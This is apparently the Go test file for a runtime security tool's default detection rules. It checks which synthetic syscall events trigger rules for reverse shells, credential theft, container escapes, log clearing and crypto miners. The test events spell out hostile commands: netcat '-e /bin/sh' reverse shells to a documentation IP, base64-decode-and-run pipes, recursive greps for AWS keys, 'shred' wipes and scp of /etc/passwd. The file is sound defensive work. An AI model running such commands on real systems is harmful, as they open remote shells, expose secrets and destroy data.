package rules

import (
	"strings"
	"testing"

	"github.com/nightjar-sec/nightjar/internal/event"
)

func withParent(p *event.Process, parent string) *event.Process {
	p.Parent = &event.Process{PID: 10, Name: parent, Exe: parent, ExePath: "/usr/bin/" + parent,
		Parent: &event.Process{PID: 1, Name: "systemd"}}
	return p
}

func withExe(p *event.Process, path string) *event.Process {
	p.ExePath = path
	p.Exe = path
	return p
}

func withTTY(p *event.Process) *event.Process {
	p.TTY = 34816
	return p
}

func failed(ev *event.Event, errno int64) *event.Event {
	ev.Res = -errno
	return ev
}

func syscallEvent(t event.Type, p *event.Process, args ...int64) *event.Event {
	ev := &event.Event{Type: t, Time: 1764180000123456789, PID: 4242, Proc: p}
	copy(ev.Args[:], args)
	return ev
}

func pathEvent(t event.Type, p *event.Process, path, path2 string, args ...int64) *event.Event {
	ev := syscallEvent(t, p, args...)
	ev.Path, ev.Path2 = []byte(path), []byte(path2)
	return ev
}

func openMode(p *event.Process, path string, flags, mode int64) *event.Event {
	ev := openEvent(p, path, flags)
	ev.Args[2] = mode
	return ev
}

func dupEvent(t event.Type, p *event.Process, fdType uint8, oldfd, newfd int64) *event.Event {
	ev := syscallEvent(t, p, oldfd, newfd)
	ev.Res = newfd
	ev.FD = &event.FD{Num: int32(oldfd), Type: fdType, Name: []byte("10.1.0.5:51000->203.0.113.9:4444"),
		Local:  event.SockAddr{Family: event.AFInet, Port: 51000, IP: ip4(10, 1, 0, 5)},
		Remote: event.SockAddr{Family: event.AFInet, Port: 4444, IP: ip4(203, 0, 113, 9)}, Proto: 6}
	return ev
}

type defaultCase struct {
	rule string
	hit  []*event.Event
	miss []*event.Event
}

func defaultCases() []defaultCase {
	const (
		afInet   = 2
		afPacket = 17
	)
	return []defaultCase{
		{"Terminal shell in container",
			[]*event.Event{execEvent(withTTY(inContainer(proc("bash")))), execEvent(withTTY(inContainer(proc("sh", "-i"))))},
			[]*event.Event{execEvent(inContainer(proc("bash"))), execEvent(withTTY(proc("bash"))), execEvent(withTTY(inContainer(proc("python3"))))}},
		{"Read sensitive file untrusted",
			[]*event.Event{openEvent(proc("cat"), "/etc/shadow", oRDONLY), openEvent(proc("python3"), "/home/alice/.ssh/id_rsa", oRDONLY),
				openEvent(proc("less"), "/etc/sudoers.d/90-cloud", oRDONLY), openEvent(proc("vim"), "/etc/pam.d/sshd", oRDWR),
				openEvent(inContainer(proc("node")), "/etc/ssh/ssh_host_ed25519_key", oRDONLY)},
			[]*event.Event{openEvent(proc("sshd"), "/etc/shadow", oRDONLY), openEvent(proc("cat"), "/etc/passwd", oRDONLY),
				failed(openEvent(proc("cat"), "/etc/shadow", oRDONLY), 13), openEvent(proc("ssh"), "/home/alice/.ssh/id_rsa", oRDONLY),
				openEvent(withParent(proc("sh"), "dpkg"), "/etc/shadow", oRDONLY), openEvent(proc("cat"), "/etc/ssh/ssh_host_ed25519_key.pub", oRDONLY)}},
		{"Write below etc",
			[]*event.Event{openEvent(proc("python3"), "/etc/hosts", oWRONLY|oTRUNC), openEvent(proc("bash"), "/etc/profile.d/x.sh", oWRONLY|oCREAT),
				creatEvent(proc("python3"), "/etc/cron.d/x")},
			[]*event.Event{openEvent(proc("dpkg"), "/etc/hosts", oWRONLY), openEvent(proc("python3"), "/etc/hosts", oRDONLY),
				openEvent(proc("python3"), "/etcetera/x", oWRONLY), openEvent(proc("passwd"), "/etc/shadow", oWRONLY)}},
		{"Write below binary dir",
			[]*event.Event{openEvent(proc("curl"), "/usr/bin/evil", oWRONLY|oCREAT), openEvent(proc("cp"), "/bin/ls", oRDWR)},
			[]*event.Event{openEvent(proc("dpkg"), "/usr/bin/ls", oWRONLY|oCREAT), openEvent(withParent(proc("cp"), "apt-get"), "/usr/bin/x", oWRONLY),
				openEvent(proc("curl"), "/usr/share/doc/x", oWRONLY), openEvent(proc("cat"), "/usr/bin/ls", oRDONLY), openEvent(proc("curl"), "/usr/binx", oWRONLY)}},
		{"Execution from /dev/shm",
			[]*event.Event{execEvent(withExe(proc("x"), "/dev/shm/x"))},
			[]*event.Event{execEvent(proc("ls")), execEvent(withExe(proc("x"), "/dev/shmx"))}},
		{"Execution from temporary directory",
			[]*event.Event{execEvent(withParent(withExe(proc("payload"), "/tmp/payload"), "bash")), execEvent(withExe(proc("m"), "/var/tmp/.x/m"))},
			[]*event.Event{execEvent(withParent(withExe(proc("main"), "/tmp/go-build123/b001/exe/main"), "bash")),
				execEvent(withParent(withExe(proc("app.test"), "/tmp/x/app.test"), "go")), execEvent(withExe(proc("x"), "/tmpx/x"))}},
		{"Drop and execute new binary in container",
			[]*event.Event{func() *event.Event { p := inContainer(proc("miner")); p.ExeUpperLayer = true; return execEvent(p) }()},
			[]*event.Event{execEvent(inContainer(proc("nginx"))), func() *event.Event { p := proc("x"); p.ExeUpperLayer = true; return execEvent(p) }()}},
		{"Fileless execution via memfd_create",
			[]*event.Event{func() *event.Event { p := proc("3"); p.ExeFromMemfd = true; return execEvent(p) }(),
				execEvent(withExe(proc("x"), "/memfd:payload (deleted)"))},
			[]*event.Event{execEvent(proc("ls"))}},
		{"PTRACE attached to process",
			[]*event.Event{syscallEvent(event.Ptrace, proc("gdb"), 16, 1234), syscallEvent(event.Ptrace, proc("inject"), 5, 1234),
				syscallEvent(event.Ptrace, proc("x"), 0x4206, 1234)},
			[]*event.Event{syscallEvent(event.Ptrace, proc("gdb"), 2, 1234), failed(syscallEvent(event.Ptrace, proc("gdb"), 16, 1), 1)}},
		{"PTRACE anti-debug attempt",
			[]*event.Event{syscallEvent(event.Ptrace, proc("malware"), 0, 0)},
			[]*event.Event{syscallEvent(event.Ptrace, withParent(proc("target"), "strace"), 0, 0), syscallEvent(event.Ptrace, proc("x"), 16, 5)}},
		{"Kernel module loaded",
			[]*event.Event{syscallEvent(event.FinitModule, proc("insmod"), 3, 0), failed(syscallEvent(event.InitModule, proc("x"), 100), 1)},
			[]*event.Event{openEvent(proc("modprobe"), "/lib/modules/6.18/modules.dep", oRDONLY)}},
		{"Clear Log Activities",
			[]*event.Event{openEvent(proc("bash"), "/var/log/auth.log", oWRONLY|oTRUNC), openEvent(proc("sh"), "/run/utmp", oRDWR|oTRUNC)},
			[]*event.Event{openEvent(proc("logrotate"), "/var/log/auth.log", oWRONLY|oTRUNC), openEvent(proc("rsyslogd"), "/var/log/syslog", oWRONLY|0o2000|oCREAT),
				openEvent(proc("bash"), "/var/lib/x.log", oWRONLY|oTRUNC)}},
		{"Create Symlink Over Sensitive Files",
			[]*event.Event{pathEvent(event.Symlinkat, proc("ln"), "/etc/shadow", "/tmp/s", -100), pathEvent(event.Symlink, proc("ln"), "/root/.ssh", "/tmp/k")},
			[]*event.Event{pathEvent(event.Symlinkat, proc("ln"), "/tmp/a", "/tmp/b", -100), failed(pathEvent(event.Symlink, proc("ln"), "/etc/shadow", "/x"), 17)}},
		{"Create Hardlink Over Sensitive Files",
			[]*event.Event{pathEvent(event.Linkat, proc("ln"), "/etc/shadow", "/tmp/h", -100, -100, 0), pathEvent(event.Link, proc("ln"), "/etc/sudoers", "/tmp/s")},
			[]*event.Event{pathEvent(event.Linkat, proc("ln"), "/tmp/a", "/tmp/b", -100, -100, 0)}},
		{"Packet socket created in container",
			[]*event.Event{syscallEvent(event.Socket, inContainer(proc("python3")), afPacket, 3, 768)},
			[]*event.Event{syscallEvent(event.Socket, proc("python3"), afPacket, 3, 768), syscallEvent(event.Socket, inContainer(proc("curl")), afInet, 1, 0)}},
		{"Packet socket created on host",
			[]*event.Event{syscallEvent(event.Socket, proc("python3"), afPacket, 3, 768)},
			[]*event.Event{syscallEvent(event.Socket, proc("tcpdump"), afPacket, 3, 768), syscallEvent(event.Socket, inContainer(proc("python3")), afPacket, 3, 768),
				failed(syscallEvent(event.Socket, proc("python3"), afPacket, 3, 768), 1)}},
		{"Redirect STDOUT/STDIN to Network Connection",
			[]*event.Event{dupEvent(event.Dup2, proc("bash"), event.FDIPv4, 3, 0), dupEvent(event.Dup3, proc("python3"), event.FDIPv6, 3, 1)},
			[]*event.Event{dupEvent(event.Dup2, proc("bash"), event.FDFile, 3, 1), dupEvent(event.Dup2, proc("bash"), event.FDIPv4, 3, 7)}},
		{"Netcat Remote Code Execution",
			[]*event.Event{execEvent(proc("nc", "-e", "/bin/sh", "203.0.113.9", "4444")), execEvent(proc("ncat", "--sh-exec", "bash", "-l", "4444"))},
			[]*event.Event{execEvent(proc("nc", "-z", "example.com", "80")), execEvent(proc("curl", "-e", "x"))}},
		{"Search Private Keys or Passwords",
			[]*event.Event{execEvent(proc("find", "/", "-name", "id_rsa")), execEvent(proc("grep", "-r", "BEGIN RSA PRIVATE KEY", "/home")),
				execEvent(proc("grep", "-ri", "Password", "/etc"))},
			[]*event.Event{execEvent(proc("find", ".", "-name", "*.go")), execEvent(proc("grep", "-r", "TODO", "."))}},
		{"Find AWS Credentials",
			[]*event.Event{execEvent(proc("grep", "-r", "aws_secret_access_key", "/")), execEvent(proc("find", "/", "-path", "*.aws/credentials"))},
			[]*event.Event{execEvent(proc("grep", "foo")), execEvent(proc("aws", "configure"))}},
		{"Find Cloud Credentials",
			[]*event.Event{execEvent(proc("find", "/", "-name", "application_default_credentials.json")), execEvent(proc("grep", "-r", "private_key_id", "/srv"))},
			[]*event.Event{execEvent(proc("gcloud", "auth", "login")), execEvent(proc("find", "/", "-name", "*.json"))}},
		{"Remove Bulk Data from Disk",
			[]*event.Event{execEvent(proc("shred", "-u", "/var/db/data")), execEvent(proc("wipe", "-rf", "/srv"))},
			[]*event.Event{execEvent(proc("rm", "-rf", "/tmp/build"))}},
		{"Contact K8S API Server From Container",
			[]*event.Event{connectEvent(inContainer(proc("curl")), ip4(10, 96, 0, 1), 443), connectEvent(inContainer(proc("python3")), ip4(192, 168, 49, 2), 6443),
				failed(connectEvent(inContainer(proc("curl")), ip4(10, 96, 0, 1), 443), 115)},
			[]*event.Event{connectEvent(inContainer(proc("curl")), ip4(8, 8, 8, 8), 443), connectEvent(inContainer(proc("kubectl")), ip4(10, 96, 0, 1), 443),
				connectEvent(proc("curl"), ip4(10, 96, 0, 1), 443), failed(connectEvent(inContainer(proc("curl")), ip4(10, 96, 0, 1), 443), 111)}},
		{"Disallowed SSH Connection Non Standard Port",
			[]*event.Event{connectEvent(proc("ssh", "-p", "2222", "host"), ip4(203, 0, 113, 9), 2222)},
			[]*event.Event{connectEvent(proc("ssh", "host"), ip4(203, 0, 113, 9), 22), connectEvent(proc("curl"), ip4(203, 0, 113, 9), 2222)}},
		{"Set Setuid or Setgid bit",
			[]*event.Event{pathEvent(event.Chmod, proc("chmod"), "/tmp/sh", "", 0o4755), pathEvent(event.Fchmodat, proc("chmod"), "/tmp/sh", "", -100, 0o2755),
				syscallEvent(event.Fchmod, proc("python3"), 3, 0o6711), openMode(proc("cp"), "/tmp/sh", oWRONLY|oCREAT, 0o4755)},
			[]*event.Event{pathEvent(event.Chmod, proc("chmod"), "/tmp/sh", "", 0o755), pathEvent(event.Chmod, proc("dpkg"), "/usr/bin/su", "", 0o4755),
				openMode(proc("cp"), "/tmp/sh", oWRONLY|oCREAT, 0o755), openMode(proc("cp"), "/tmp/sh", oWRONLY, 0o4755)}},
		{"Change thread namespace",
			[]*event.Event{syscallEvent(event.Setns, proc("nsenter"), 3, 0x40000000)},
			[]*event.Event{syscallEvent(event.Setns, proc("runc"), 3, 0), syscallEvent(event.Setns, withParent(proc("x"), "containerd-shim"), 3, 0),
				failed(syscallEvent(event.Setns, proc("nsenter"), 3, 0), 1)}},
		{"Unshare namespace by unexpected program",
			[]*event.Event{syscallEvent(event.Unshare, proc("unshare"), 0x10000000)},
			[]*event.Event{syscallEvent(event.Unshare, proc("runc:[1:CHILD]"), 0x20000), syscallEvent(event.Unshare, proc("bwrap"), 0x10000000)}},
		{"Schedule Cron Jobs",
			[]*event.Event{openEvent(proc("bash"), "/etc/cron.d/evil", oWRONLY|oCREAT), openEvent(proc("crontab"), "/var/spool/cron/crontabs/root", oWRONLY|oCREAT),
				execEvent(proc("crontab", "/tmp/jobs"))},
			[]*event.Event{execEvent(proc("crontab", "-l")), openEvent(proc("cron"), "/etc/crontab", oRDONLY), openEvent(proc("dpkg"), "/etc/cron.daily/x", oWRONLY)}},
		{"Linux Kernel Module Injection Detected",
			[]*event.Event{syscallEvent(event.FinitModule, inContainer(proc("insmod")), 3, 0), failed(syscallEvent(event.InitModule, inContainer(proc("x")), 100), 1)},
			[]*event.Event{syscallEvent(event.FinitModule, proc("insmod"), 3, 0)}},
		{"Redirect STDOUT/STDIN to Network Connection in Container",
			[]*event.Event{dupEvent(event.Dup2, inContainer(proc("bash")), event.FDIPv4, 3, 0)},
			[]*event.Event{dupEvent(event.Dup2, proc("bash"), event.FDIPv4, 3, 0), dupEvent(event.Dup2, inContainer(proc("bash")), event.FDFile, 3, 1)}},
		{"Netcat Remote Code Execution in Container",
			[]*event.Event{execEvent(inContainer(proc("nc", "-e", "/bin/sh", "203.0.113.9", "4444"))),
				execEvent(inContainer(withExe(proc("exe", "-e", "/bin/sh", "203.0.113.9", "4444"), "/usr/bin/nc")))},
			[]*event.Event{execEvent(proc("nc", "-e", "/bin/sh", "203.0.113.9", "4444")), execEvent(inContainer(proc("nc", "-l", "-p", "80")))}},
		{"Directory traversal monitored file read",
			[]*event.Event{openEvent(proc("php-fpm"), "/var/www/html/../../../etc/shadow", oRDONLY),
				failed(openEvent(proc("node"), "/srv/app/static/../../../../root/.ssh/id_rsa", oRDONLY), 2)},
			[]*event.Event{openEvent(proc("php-fpm"), "/var/www/html/../index.php", oRDONLY), openEvent(proc("bash"), "../../etc/shadow", oRDONLY),
				openEvent(proc("cat"), "/etc/shadow", oRDONLY)}},
		{"Read sensitive file trusted after startup",
			[]*event.Event{openEvent(runningFor(proc("nginx"), 60), "/etc/shadow", oRDONLY), openEvent(runningFor(inContainer(proc("mysqld")), 6), "/etc/sudoers", oRDONLY)},
			[]*event.Event{openEvent(runningFor(proc("sshd"), 60), "/etc/shadow", oRDONLY), openEvent(runningFor(proc("nginx"), 60), "/etc/nginx/nginx.conf", oRDONLY),
				// during its first five seconds: start-up, not a worker
				openEvent(runningFor(proc("nginx"), 2), "/etc/shadow", oRDONLY)}},
		{"Run shell untrusted",
			[]*event.Event{execEvent(withParent(proc("sh", "-c", "id"), "nginx")), execEvent(withParent(proc("bash"), "php-fpm"))},
			[]*event.Event{execEvent(withParent(proc("sh", "-c", "id"), "bash")), execEvent(withParent(proc("python3"), "nginx"))}},
		{"System user interactive",
			[]*event.Event{execEvent(withParent(func() *event.Process { p := proc("sh"); p.User = "www-data"; return p }(), "sshd")),
				execEvent(withTTY(func() *event.Process { p := proc("id"); p.User = "daemon"; return p }()))},
			[]*event.Event{execEvent(withParent(func() *event.Process { p := proc("sh"); p.User = "alice"; return p }(), "sshd")),
				execEvent(func() *event.Process { p := proc("php-fpm"); p.User = "www-data"; return p }())}},
		{"Debugfs Launched in Privileged Container",
			[]*event.Event{execEvent(privileged(proc("debugfs", "/dev/sda1")))},
			[]*event.Event{execEvent(inContainer(proc("debugfs", "/dev/sda1"))), execEvent(proc("debugfs", "/dev/sda1"))}},
		{"Mount Launched in Privileged Container",
			[]*event.Event{execEvent(privileged(proc("mount", "/dev/sda1", "/mnt")))},
			[]*event.Event{execEvent(privileged(proc("mount"))), execEvent(inContainer(proc("mount", "/dev/sda1", "/mnt")))}},
		{"Detect release_agent File Container Escapes",
			[]*event.Event{openEvent(inContainer(proc("sh")), "/tmp/cg/release_agent", oWRONLY|oTRUNC)},
			[]*event.Event{openEvent(inContainer(proc("cat")), "/tmp/cg/release_agent", oRDONLY), openEvent(proc("systemd"), "/sys/fs/cgroup/x/release_agent", oWRONLY)}},
		{"Adding ssh keys to authorized_keys",
			[]*event.Event{openEvent(proc("bash"), "/root/.ssh/authorized_keys", oWRONLY|0o2000), openEvent(proc("python3"), "/home/bob/.ssh/authorized_keys", oWRONLY|oCREAT)},
			[]*event.Event{openEvent(proc("sshd"), "/root/.ssh/authorized_keys", oRDONLY), openEvent(proc("ssh-copy-id"), "/home/bob/.ssh/authorized_keys", oWRONLY)}},
		{"Delete or rename shell history",
			[]*event.Event{pathEvent(event.Unlinkat, proc("rm"), "/root/.bash_history", "", -100, 0), pathEvent(event.Renameat2, proc("mv"), "/home/a/.zsh_history", "/tmp/x", -100, -100, 0),
				openEvent(proc("cp"), "/root/.bash_history", oWRONLY|oTRUNC)},
			[]*event.Event{openEvent(proc("bash"), "/root/.bash_history", oWRONLY|oTRUNC), pathEvent(event.Unlinkat, proc("rm"), "/root/notes", "", -100, 0)}},
		{"Container Drift Detected (chmod)",
			[]*event.Event{pathEvent(event.Chmod, inContainer(proc("chmod")), "/tmp/x", "", 0o755)},
			[]*event.Event{pathEvent(event.Chmod, inContainer(proc("chmod")), "/tmp/x", "", 0o644), pathEvent(event.Chmod, proc("chmod"), "/tmp/x", "", 0o755)}},
		{"Container Drift Detected (open+create)",
			[]*event.Event{openMode(inContainer(proc("curl")), "/tmp/x", oWRONLY|oCREAT, 0o755), openMode(inContainer(proc("cp")), "/tmp/y", oWRONLY|oCREAT, 0o700)},
			[]*event.Event{openMode(inContainer(proc("curl")), "/tmp/x", oWRONLY|oCREAT, 0o644), openMode(inContainer(proc("link")), "/tmp/go-build1/a.out", oWRONLY|oCREAT, 0o777),
				openMode(proc("curl"), "/tmp/x", oWRONLY|oCREAT, 0o755)}},
		{"Launch Package Management Process in Container",
			[]*event.Event{execEvent(inContainer(proc("apt-get", "install", "curl")))},
			[]*event.Event{execEvent(proc("apt-get", "install", "curl")), execEvent(withParent(inContainer(proc("dpkg")), "apt-get"))}},
		{"Launch Remote File Copy Tools in Container",
			[]*event.Event{execEvent(inContainer(proc("scp", "/etc/passwd", "x@203.0.113.9:")))},
			[]*event.Event{execEvent(proc("scp", "/etc/passwd", "x@203.0.113.9:"))}},
		{"Detect outbound connections to common miner pool ports",
			[]*event.Event{connectEvent(inContainer(proc("x")), ip4(203, 0, 113, 9), 3333), connectEvent(proc("xmrig"), ip4(10, 0, 0, 9), 443)},
			[]*event.Event{connectEvent(proc("x"), ip4(10, 0, 0, 9), 3333), connectEvent(proc("curl"), ip4(203, 0, 113, 9), 443)}},
		{"Detect crypto miners using the Stratum protocol",
			[]*event.Event{execEvent(proc("x", "-o", "stratum+tcp://pool.example:3333")), execEvent(proc("xmrig"))},
			[]*event.Event{execEvent(proc("curl", "-o", "out", "https://example.com"))}},
		{"Decoding Payload in Container",
			[]*event.Event{execEvent(inContainer(func() *event.Process {
				p := proc("sh")
				p.Parent = &event.Process{PID: 9, Name: "sh", Args: []string{"-c", "echo aWQK | base64 -d | sh"}}
				return p
			}()))},
			[]*event.Event{execEvent(inContainer(proc("sh", "-c", "ls")))}},
		{"Base64-decoded payload executed",
			[]*event.Event{execEvent(proc("bash", "-c", "eval $(echo aWQK | base64 --decode)"))},
			[]*event.Event{execEvent(proc("base64", "-d", "file")), execEvent(inContainer(proc("bash", "-c", "echo x | base64 -d | sh")))}},
		{"Write below root",
			[]*event.Event{openEvent(proc("curl"), "/.x", oWRONLY|oCREAT)},
			[]*event.Event{openEvent(proc("curl"), "/tmp/x", oWRONLY|oCREAT), openEvent(proc("dpkg"), "/x", oWRONLY|oCREAT), openEvent(proc("cat"), "/x", oRDONLY)}},
		{"Write below monitored dir",
			[]*event.Event{openEvent(proc("curl"), "/usr/lib/x86_64-linux-gnu/libc.so.6", oWRONLY), openEvent(proc("sh"), "/boot/grub/grub.cfg", oWRONLY)},
			[]*event.Event{openEvent(proc("dpkg"), "/usr/lib/x/y.so", oWRONLY|oCREAT), openEvent(proc("ldconfig"), "/usr/lib/x", oWRONLY)}},
		{"User mgmt binaries",
			[]*event.Event{execEvent(withParent(proc("useradd", "-m", "eve"), "bash")), execEvent(withParent(inContainer(proc("passwd", "root")), "sh"))},
			[]*event.Event{execEvent(proc("passwd", "-S", "root")), execEvent(withParent(proc("useradd", "-r", "svc"), "dpkg"))}},
		{"Process memory read by another program",
			[]*event.Event{openEvent(proc("python3"), "/proc/812/mem", oRDONLY)},
			[]*event.Event{openEvent(proc("gdb"), "/proc/812/mem", oRDONLY), openEvent(proc("python3"), "/proc/812/maps", oRDONLY),
				failed(openEvent(proc("python3"), "/proc/812/mem", oRDONLY), 13)}},
		{"Launch Suspicious Network Tool in Container",
			[]*event.Event{execEvent(inContainer(proc("nmap", "-sS", "10.0.0.0/24"))), execEvent(inContainer(withExe(proc("exe"), "socat")))},
			[]*event.Event{execEvent(inContainer(proc("curl", "http://x"))), execEvent(proc("nmap", "10.0.0.1"))}},
		{"Launch Suspicious Network Tool on Host",
			[]*event.Event{execEvent(withParent(proc("nmap", "-sS", "10.0.0.0/24"), "python3"))},
			[]*event.Event{execEvent(withTTY(proc("nmap", "10.0.0.1"))), execEvent(withParent(proc("tcpdump", "-i", "eth0"), "cron")),
				execEvent(inContainer(proc("nmap", "10.0.0.1")))}},
		{"Modify Shell Configuration File",
			[]*event.Event{openEvent(proc("bash"), "/root/.bashrc", oWRONLY|0o2000), openEvent(inContainer(proc("sh")), "/etc/profile.d/x.sh", oWRONLY|oCREAT)},
			[]*event.Event{openEvent(proc("bash"), "/root/.bashrc", oRDONLY), openEvent(withParent(proc("cp"), "dpkg"), "/etc/bash.bashrc", oWRONLY)}},
	}
}

func privileged(p *event.Process) *event.Process {
	inContainer(p).Container.Privileged = true
	return p
}

// TestDefaultRules feeds every default rule events that must and must not
// trigger it.
func TestDefaultRules(t *testing.T) {
	s, err := Default(Options{Hostname: "node-1"})
	if err != nil {
		t.Fatal(err)
	}
	if w := s.Warnings(); len(w) != 0 {
		t.Errorf("default rules load with warnings: %v", ErrorList(w))
	}
	tested := map[string]bool{}
	for _, tc := range defaultCases() {
		tested[tc.rule] = true
		for i, ev := range tc.hit {
			got := fired(s, ev)
			if !contains(got, tc.rule) {
				t.Errorf("%s: event %d (%s) fired %v, want the rule", tc.rule, i, ev.Type, got)
			}
		}
		for i, ev := range tc.miss {
			if got := fired(s, ev); contains(got, tc.rule) {
				t.Errorf("%s: non-matching event %d (%s) fired it", tc.rule, i, ev.Type)
			}
		}
	}
	for _, r := range s.Rules() {
		if !tested[r.Name] {
			t.Errorf("default rule %q has no test case", r.Name)
		}
		if !r.Enabled || len(r.EventTypes) == 0 || len(r.Tags) == 0 || r.Desc == "" {
			t.Errorf("default rule %q: enabled=%v types=%v tags=%v", r.Name, r.Enabled, r.EventTypes, r.Tags)
		}
		hasTechnique := false
		for _, tag := range r.Tags {
			if strings.HasPrefix(tag, "T1") {
				hasTechnique = true
			}
		}
		if !hasTechnique {
			t.Errorf("default rule %q has no MITRE ATT&CK technique tag", r.Name)
		}
	}
	if len(s.Rules()) < 20 {
		t.Errorf("%d default rules", len(s.Rules()))
	}
}

// TestDefaultRulesOutput checks that every default rule's output renders
// without unresolved fields on a matching event.
func TestDefaultRulesOutput(t *testing.T) {
	s, err := Default(Options{Hostname: "node-1"})
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range defaultCases() {
		s.Eval(tc.hit[0], func(m *Match) {
			if m.Rule.Name != tc.rule {
				return
			}
			a := m.Alert()
			if !strings.HasPrefix(a.Output, "18:00:00.123456789: "+m.Rule.Priority.String()+" ") || strings.Contains(a.Output, "%") {
				t.Errorf("%s: output %q", tc.rule, a.Output)
			}
			if a.OutputFields["proc.pid"] == nil || a.OutputFields["proc.cmdline"] == nil {
				t.Errorf("%s: output fields %v", tc.rule, a.OutputFields)
			}
		})
	}
}

// benignEvents is what building and testing a small Go program and running
// a shell script look like to the rules.
func benignEvents() []*event.Event {
	goProc := withParent(proc("go", "build", "./..."), "bash")
	compile := withParent(withExe(proc("compile", "-o", "/tmp/go-build42/b001/_pkg_.a"), "/usr/local/go/pkg/tool/linux_amd64/compile"), "go")
	testBin := withParent(withExe(proc("app.test", "-test.v"), "/tmp/go-build42/b001/app.test"), "go")
	script := withParent(proc("bash", "build.sh"), "sshd")
	script.TTY = 34816
	curl := withParent(proc("curl", "-s", "http://127.0.0.1:8080/health"), "bash")
	rsyslog := proc("rsyslogd", "-n")
	sshd := proc("sshd", "-D")
	out := []*event.Event{
		execEvent(script),
		execEvent(goProc),
		openEvent(goProc, "/root/app/go.mod", oRDONLY),
		openEvent(goProc, "/usr/local/go/src/fmt/print.go", oRDONLY),
		openEvent(goProc, "/etc/passwd", oRDONLY),
		openEvent(goProc, "/etc/ld.so.cache", oRDONLY|0o2000000),
		openEvent(goProc, "/tmp/go-build42/b001/importcfg", oWRONLY|oCREAT|oTRUNC),
		execEvent(compile),
		openEvent(compile, "/tmp/go-build42/b001/_pkg_.a", oWRONLY|oCREAT|oTRUNC),
		openMode(goProc, "/root/app/app", oWRONLY|oCREAT|oTRUNC, 0o755),
		pathEvent(event.Chmod, goProc, "/root/app/app", "", 0o755),
		execEvent(testBin),
		openEvent(testBin, "/root/app/testdata/in.json", oRDONLY),
		pathEvent(event.Unlinkat, goProc, "/tmp/go-build42/b001/_pkg_.a", "", -100, 0),
		pathEvent(event.Mkdirat, goProc, "/tmp/go-build43", "", -100, 0o700),
		syscallEvent(event.Clone, goProc, 0x3d0f00),
		execEvent(withParent(proc("ls", "-la"), "bash")),
		execEvent(withParent(proc("grep", "-r", "TODO", "."), "bash")),
		execEvent(withParent(proc("find", ".", "-name", "*.go"), "bash")),
		execEvent(curl),
		syscallEvent(event.Socket, curl, 2, 1, 6),
		connectEvent(curl, ip4(127, 0, 0, 1), 8080),
		dupEvent(event.Dup2, withParent(proc("bash"), "bash"), event.FDFile, 3, 1),
		openEvent(rsyslog, "/var/log/syslog", oWRONLY|0o2000|oCREAT),
		openEvent(sshd, "/etc/shadow", oRDONLY),
		openEvent(withParent(proc("cat"), "bash"), "/etc/hostname", oRDONLY),
		syscallEvent(event.ProcExit, goProc, 0),
	}
	return out
}

func TestDefaultRulesBenign(t *testing.T) {
	s, err := Default(Options{Hostname: "node-1"})
	if err != nil {
		t.Fatal(err)
	}
	for i, ev := range benignEvents() {
		if got := fired(s, ev); len(got) > 0 {
			t.Errorf("benign event %d (%s by %s) fired %v", i, ev.Type, ev.Proc.Name, got)
		}
	}
}

// runningFor makes p a process started secs seconds before the helpers'
// event time.
func runningFor(p *event.Process, secs int64) *event.Process {
	p.StartTime = 1764180000123456789 - secs*1_000_000_000
	return p
}

// creatEvent is a successful creat(2): the flags it implies are what the
// capture reports.
func creatEvent(p *event.Process, path string) *event.Event {
	ev := openEvent(p, path, oWRONLY|oCREAT|oTRUNC)
	ev.Type = event.Creat
	ev.Args = [4]int64{oWRONLY | oCREAT | oTRUNC, 0o644}
	return ev
}
